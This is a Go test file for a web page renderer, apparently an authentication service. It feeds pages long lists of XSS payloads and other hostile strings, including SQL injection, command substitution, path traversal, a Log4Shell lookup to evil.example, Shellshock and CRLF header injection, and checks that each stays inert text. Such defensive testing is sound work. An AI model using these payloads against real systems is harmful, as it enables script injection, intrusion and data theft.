package pages

import (
	"regexp"
	"slices"
	"strings"
	"testing"
)

// markup are strings that try to break out of the text, attribute or URL in which they occur.
var markup = []string{
	"<script>alert(1)</script>", "</script><script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
	"<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
	"<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext></p><style><!--</style><img src onerror=alert(1)>",
	"<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
	"<object data=javascript:alert(1)>", "<embed src=//evil.example>", "<link rel=stylesheet href=//evil.example>",
	"<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example/>",
	"<form action=//evil.example><button>go</button>", "</form><form action=//evil.example>", "<input name=password>",
	"<button name=decision value=allow form=f formaction=//evil.example>", "<a href=javascript:alert(1)>x</a>",
	"<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<marquee onstart=alert(1)>",
	"<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<plaintext>", "<xmp>", "<textarea>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
	"</style><script>alert(1)</script>", "</style ><img src=x onerror=alert(1)>", "</h1></main></body></html><script>alert(1)</script>",
	"<!--", "-->", "<!-- --!><script>alert(1)</script>", "<![CDATA[", "]]>", "<?xml version=\"1.0\"?>", "<!DOCTYPE html>",
	"\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onfocus=alert(1) autofocus x=\"", "' onfocus=alert(1) autofocus x='",
	"` onfocus=alert(1) x=`", " onmouseover=alert(1) ", "\" style=\"position:fixed;inset:0", "x\" form=\"f", "\"\n onclick=\"alert(1)",
	"\"/><p>", "\\\"><script>alert(1)</script>", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript>", "&lt;script&gt;",
	"&quot; onfocus=alert(1) x=&quot;", "&#34;&#62;&#60;script&#62;", "&#x3c;script&#x3e;", "&amp;lt;script&gt;", "&lt", "&#0;", "&#xD800;",
	"%3Cscript%3Ealert(1)%3C/script%3E", "%22%3E%3Cscript%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	"＜script＞alert(1)＜/script＞", "‹script›", "ʺ>ʹ>", "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "<\u0000script>alert(1)</script>",
	"<scr\u0000ipt>", "\u0000\"><script>", "<a\u2028href=javascript:x>", "<\u00a0script>", "<script\u000c>alert(1)</script>",
	"javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\nscript:alert(1)",
	"java\tscript:alert(1)", "javascript\u0000:alert(1)", "\u0001javascript:alert(1)", "javascript&colon;alert(1)",
	"javascript&#58;alert(1)", "javascript%3Aalert(1)", "javascript://%0aalert(1)", "feed:javascript:alert(1)",
	"view-source:javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:image/svg+xml,<svg onload=alert(1)>", "blob:https://a/b",
	"file:///etc/passwd", "//evil.example\" onclick=\"alert(1)", "/path?a=\"&b='><script>", "#\"><script>alert(1)</script>",
	"{{.}}", "{{define \"layout\"}}x{{end}}", "{{template \"main\"}}", "{application}", "{title}", "{brand}", "{host}{date}", "${alert(1)}",
	"#{7*7}", "<%= 7*7 %>", "{%raw%}", "[[${7*7}]]", "*{color:red}", "</bdi><script>alert(1)</script>", "</time></span><script>",
	"#ZgotmplZ", "expression(alert(1))", "url(javascript:alert(1))", "}*{background:url(//evil.example)", "@import '//evil.example';",
}

// naughty are strings that have broken other programs.
var naughty = []string{
	"undefined", "null", "NULL", "(null)", "nil", "true", "false", "NaN", "Infinity", "-0", "1/0", "0xffffffffffffffff", "1E02", "08",
	"\\", "\\\\", "\\n", "/", "//", "'", "\"", "''", "\"\"", "'\"'", "`", "´", "<", ">", "<>", "&", "&&", ";", "%", "%s%d%n", "%00", "$HOME",
	",./;'[]\\-=", "<>?:\"{}|_+", "!@#$%^&*()`~", "\x00", "\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f", "\x7f", "\t", "\n", "\r", "\r\n\r\n",
	"\v\f", "\u0080\u0084\u0085\u009f", "\u00a0", "\u00ad", "\u1680\u180e\u2000\u200a", "\u200b\u200c\u200d", "\u2028", "\u2029", "\u202f\u205f\u3000",
	"\ufeff", "\ufffe", "\uffff", "\ufffd", "\U0010ffff", "\U000e0001", "\xff", "\xc0\xbc", "\xed\xa0\x80", "\xf4\x90\x80\x80", "caf\xe9",
	"\u202etxt.exe", "\u202bright", "\u2066a\u2067b", "\u2069\u2069\u202c", "\u061c", "مرحبا بالعالم", "שלום עולם", "aשלוםb", "﷽", "ﷺ",
	"田中さん", "パーティー", "部落格", "찦차를 타고", "社會科學院", "ÅÍÎÏ˝ÓÔ", "Ω≈ç√∫", "ЁЂЃЄЅ", "٠١٢٣", "⁰⁴⁵₀₁₂", "１２３", "ﬁ", "İı", "ſK", "ß", "e\u0301",
	"😍", "👩🏽", "👨‍👩‍👧‍👦", "🇺🇸🇷", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "¯\\_(ツ)_/¯", "Z\u0351\u0334a\u0335l\u0336g\u0337o\u0338", "ด้้้้้็็็็็", "𝕿𝖍𝖊", "⒯⒣⒠",
	"1;DROP TABLE users", "' OR 1=1 -- ", "$(id)", "`id`", "../../etc/passwd", "..\\..\\", "C:\\", "CON", "{\"$ne\":null}", "() { :;}; x",
	"${jndi:ldap://evil.example/a}", "=cmd|' /C calc'!A0", "Set-Cookie: a=b", "a\r\nLocation: //evil.example", "Scunthorpe", "Ian O’Neill",
	strings.Repeat("W", 255), strings.Repeat("a ", 127), strings.Repeat("👩‍👩‍👧", 22), strings.Repeat("\u0301", 127), strings.Repeat("<", 255),
	strings.Repeat("\"", 255), strings.Repeat("&", 255), strings.Repeat("<b>", 85),
}

// TestA77MarkupStaysText and TestA78NaughtyStrings check the same: the content of any field of any page changes no element and no
// attribute, and the form returns it unchanged.
func TestA77MarkupStaysText(t *testing.T) {
	var values, anywhere []string
	for _, value := range markup {
		if strings.Contains(value, "javascript") && !strings.Contains(value, "<") || scheme.MatchString(value) || strings.HasPrefix(value, "/") {
			values = append(values, value) // as an address it has to come first
		} else {
			anywhere = append(anywhere, value)
		}
	}
	for some := range slices.Chunk(anywhere, 12) { // one that breaks out shows, whatever comes after it
		values = append(values, strings.Join(some, " "))
	}
	holdShape(t, values)
}

func TestA78NaughtyStrings(t *testing.T) {
	var values []string
	for some := range slices.Chunk(naughty, 12) { // none of them needs to come first
		values = append(values, strings.Join(some, " "))
	}
	holdShape(t, values)
}

func holdShape(t *testing.T, hostile []string) {
	t.Parallel()
	p := open(t, Settings{})
	want := make(map[string][]string)
	for name, page := range samples(harmless) {
		want[name] = shape(parse(t, render(t, p, "de", page)))
	}
	for _, value := range hostile {
		// The field's name after the value keeps the fields distinct, as on a harmless page.
		for name, page := range samples(func(field string) string { return value + field }) {
			d := parse(t, render(t, p, "de", page))
			if got := shape(d); !slices.Equal(got, want[name]) {
				t.Fatalf("%s: %q made\n%s\nof\n%s", name, value, strings.Join(got, "\n"), strings.Join(want[name], "\n"))
			}
			holdsNoCode(t, name, d)
			holdsSafeAddresses(t, d)
			holdsValues(t, d, value)
		}
	}
}

// shape returns the elements of a page with their attributes. It omits the values of attributes that carry data.
func shape(d document) []string {
	lines := make([]string, len(d.elements))
	for i, n := range d.elements {
		lines[i] = n.Data
		for _, a := range n.Attr {
			lines[i] += " " + a.Key
			if !slices.Contains([]string{"value", "href", "action", "aria-label", "rows"}, a.Key) && !strings.HasPrefix(a.Key, "data-") {
				lines[i] += "=" + a.Val
			}
		}
	}
	return lines
}

// scheme matches what a browser takes as the scheme of an address. Browsers skip white space and control characters before it, and tabs and
// line breaks anywhere.
var scheme = regexp.MustCompile(`^[\x00-\x20]*([a-zA-Z][a-zA-Z0-9+.\t\r\n-]*):`)

// holdsSafeAddresses fails for a link or form that a browser would treat as a program or as a page of its own.
func holdsSafeAddresses(t *testing.T, d document) {
	t.Helper()
	for _, n := range d.elements {
		for _, name := range []string{"href", "action"} {
			value, _ := attr(n, name)
			if rel, _ := attr(n, "rel"); rel == "icon" {
				continue // it is ours, and not an address to follow
			}
			if m := scheme.FindStringSubmatch(value); m != nil && m[1] != "http" && m[1] != "https" {
				t.Errorf("%s of <%s> is %q", name, n.Data, value)
			}
		}
	}
}

// holdsValues fails if a field would not be returned as given. All line breaks are equal in HTML, and NUL and invalid UTF-8 cannot occur in
// it.
func holdsValues(t *testing.T, d document, value string) {
	t.Helper()
	value = strings.NewReplacer("\r\n", "\n", "\r", "\n", "\x00", "\ufffd").Replace(value)
	for name, field := range map[string]string{"form_token": "token", "pending": "pending", "email": "email", "session": "id", "state": "state", "personal_token": "id", "name": "token name"} {
		n := d.with("name", name)
		if n == nil {
			continue // the page does not have this field
		}
		if got, _ := attr(n, "value"); got != value+field && (name != "email" || got != "") {
			t.Errorf("%s is %q, want %q", name, got, value+field)
		}
	}
}

// TestA77BrandStaysText: not even the operator's name is more than text.
func TestA77BrandStaysText(t *testing.T) {
	want := shape(parse(t, render(t, open(t, Settings{Name: "Acme"}), "en", SignIn{})))
	for _, value := range slices.Concat(markup, naughty) {
		if got := shape(parse(t, render(t, open(t, Settings{Name: value}), "en", SignIn{}))); !slices.Equal(got, want) {
			t.Errorf("%q made %q", value, got)
		}
	}
}

// TestA78NamesAreSetApart: a name that is written from right to left, or that overrides the direction, moves no other
// word, because each stands in an element of its own.
func TestA78NamesAreSetApart(t *testing.T) {
	p := open(t, Settings{Name: "«brand»"})
	for name, page := range samples(func(field string) string { return "«" + field + "»" }) {
		for n := range parse(t, render(t, p, "en", page)).all("body")[0].Descendants() {
			if n.Data = strings.TrimSpace(n.Data); !strings.Contains(n.Data, "«") {
				continue
			}
			if up := n.Parent.Data; up != "bdi" && up != "code" && up != "option" && up != "textarea" {
				t.Errorf("%s: %q stands in <%s>", name, n.Data, up)
			}
		}
	}
}
